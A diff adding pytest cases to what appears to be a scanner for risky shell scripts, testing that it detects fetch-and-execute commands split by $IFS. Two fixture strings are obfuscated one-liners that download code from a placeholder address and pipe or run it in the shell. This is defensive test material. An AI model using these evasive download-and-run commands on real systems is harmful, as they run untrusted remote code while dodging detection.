@@ -703,3 +703,24 @@ def test_a_go_module_proxy_with_the_checksum_database_off_is_an_untrusted_source
     # a company mirror with checksums still checked, or private modules only skipping them, is normal
     checked = "go env -w GOPROXY=https://athens.corp-cache.invalid,direct\ngo env -w GONOSUMDB=git.corp.invalid/*\n"
     assert scan_errors(tmp_path / "checked", {"scripts/deps.sh": checked}) == set()
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        # $IFS between the arguments, and the host in a variable right after the scheme
+        "p=wg; q=et; t=203.0.113.85\n${p}${q}${IFS}-qO-${IFS}http://$t/s|${SHELL:-sh}\n",
+        "u=http://203.0.113.85/s\ncurl${IFS}-fsS${IFS}$u${IFS}-o${IFS}/tmp/.s;sh${IFS}/tmp/.s\n",
+    ],
+)
+def test_words_split_where_ifs_expands(tmp_path: Path, script: str) -> None:
+    assert (Kind.EXEC_FETCHED, "203.0.113.85") in summary(
+        analyse_file(tmp_path, "scripts/a.sh", script, Language.SHELL)
+    )
+
+
+def test_ifs_inside_quotes_splits_nothing(tmp_path: Path) -> None:
+    script = 'msg="ready${IFS}to${IFS}go"\necho "$msg" > /tmp/state\nsh -c "echo done"\n'
+    assert not [
+        c for c in analyse_file(tmp_path, "scripts/a.sh", script, Language.SHELL) if c.kind is Kind.EXEC_FETCHED
+    ]
